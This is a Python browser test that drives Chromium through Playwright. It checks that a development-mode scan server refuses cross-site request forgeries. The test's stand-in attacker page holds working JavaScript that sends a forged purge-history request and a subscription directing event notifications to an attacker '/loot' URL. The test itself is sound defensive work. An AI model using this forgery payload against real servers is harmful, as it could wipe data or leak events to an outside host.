"""Issue 14, section 1, in a real browser (Debian's chromium, driven by Playwright): a page on
another origin (127.0.0.2) makes the administrator's browser send the two forgeries of the
issue to a development-mode server on 127.0.0.1, on both bindings: a vendor PurgeJobHistory and
a Subscribe whose NotifyTo is the attacker's URL.  The server refuses both (403), the history
stays intact, nothing is subscribed and the attacker hears nothing."""

from __future__ import annotations

import http.server
import json
import os
import threading
import urllib.request
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from dsc_core import client as C
from dsc_core import names
from e2e_support import ServerProcess, dsc
from test_status_page_browser import browser, playwright_api
from waiting import wait_for

__all__ = ["browser"]  # the fixture, shared with the status page's browser test

A = names.Action
ATTACKER_HOST = "127.0.0.2"


@contextmanager
def attacker_site() -> Iterator[tuple[str, dict[str, bytes], list[str]]]:
    """A web site on another loopback address: serves the pages put in its dict and records
    every POST it gets (an event the server would post to the attacker's NotifyTo)."""
    pages: dict[str, bytes] = {}
    heard: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            page = pages.get(self.path, b"")
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def do_POST(self) -> None:
            heard.append(self.path)
            self.send_response(202)
            self.send_header("Content-Length", "0")
            self.end_headers()

    server = http.server.ThreadingHTTPServer((ATTACKER_HOST, 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://{ATTACKER_HOST}:{server.server_address[1]}", pages, heard
    finally:
        server.shutdown()
        server.server_close()


def forgery_page(target: str, purge: bytes, subscribe: bytes) -> bytes:
    """The attacker's page: both forgeries as the issue reproduced them (``no-cors``, which
    needs no permission), and the same with the SOAP media type (a ``cors`` request: the
    browser asks first, with a preflight OPTIONS)."""
    script = f"""
const target = {json.dumps(target)};
const bodies = {json.dumps([purge.decode(), subscribe.decode()])};
async function attack() {{
  const results = [];
  for (const body of bodies) {{
    for (const mode of ["no-cors", "cors"]) {{
      const init = {{method: "POST", mode: mode, body: body}};
      if (mode === "cors") init.headers = {{"Content-Type": "application/soap+xml"}};
      try {{ const r = await fetch(target, init); results.push(mode + ": sent " + r.type); }}
      catch (e) {{ results.push(mode + ": failed " + e.name); }}
    }}
  }}
  document.title = "done";
  document.body.textContent = JSON.stringify(results);
}}
attack();
"""
    return f"<!doctype html><title>prize</title><body><script>{script}</script>".encode()


def base(server: ServerProcess) -> str:
    return f"http://127.0.0.1:{server.port}"


def status(server: ServerProcess) -> dict[str, Any]:
    with urllib.request.urlopen(f"{base(server)}/status.json", timeout=10) as reply:
        return json.loads(reply.read())  # type: ignore[no-any-return]


@pytest.mark.parametrize("binding", ["async", "blocking"])
def test_a_page_of_another_origin_cannot_forge_requests(
    browser: Any, tmp_path: Path, binding: str
) -> None:
    server = ServerProcess(tmp_path / "data", binding=binding).start()
    try:
        image = tmp_path / "page.png"
        image.write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(10_000))
        scan = dsc("scan", "--server", server.url, "--quiet", "--json", str(image))
        assert scan.code == 0, scan
        token = scan.json()["token"]
        wait_for(lambda: any(j["token"] == token for j in status(server)["history"]))

        purge = etree.Element(f"{{{names.EXT}}}PurgeJobHistoryRequest")
        etree.SubElement(purge, f"{{{names.EXT}}}Before").text = "2999-01-01T00:00:00+00:00"
        with attacker_site() as (attacker, pages, heard):
            subscribe = etree.Element(f"{{{names.WSE}}}Subscribe")
            delivery = etree.SubElement(subscribe, f"{{{names.WSE}}}Delivery")
            delivery.set("Mode", names.PUSH_MODE)
            notify_to = etree.SubElement(delivery, f"{{{names.WSE}}}NotifyTo")
            etree.SubElement(notify_to, f"{{{names.WSA}}}Address").text = f"{attacker}/loot"
            bodies = [
                C.envelope(action, payload, message_id=f"urn:uuid:{uuid.uuid4()}")
                for action, payload in (
                    (A.EXT_PURGE_JOB_HISTORY, purge),
                    (A.SUBSCRIBE, subscribe),
                )
            ]
            pages["/"] = forgery_page(server.url, *bodies)
            page = browser.new_page()
            page.goto(f"{attacker}/")
            playwright_api.expect(page).to_have_title("done", timeout=15_000)
            results = json.loads(page.locator("body").text_content())
            page.close()
            # The no-cors forgeries left the browser (opaque answers); the cors ones stopped
            # at their preflight, which was refused too.
            assert results == [
                "no-cors: sent opaque",
                "cors: failed TypeError",
                "no-cors: sent opaque",
                "cors: failed TypeError",
            ], results
            now = status(server)
            assert any(j["token"] == token for j in now["history"]), "the history was purged"
            assert now["subscriptions"] == []
            assert heard == []
        refusals = [line for line in server.log.splitlines() if "refused with 403" in line]
        assert sum("POST /ScanServer" in line for line in refusals) == 2, refusals
        assert sum("OPTIONS /ScanServer" in line for line in refusals) == 2, refusals
        assert "Purged" not in server.log
        server.stop_cleanly()
    finally:
        if server.alive:
            server.kill9()
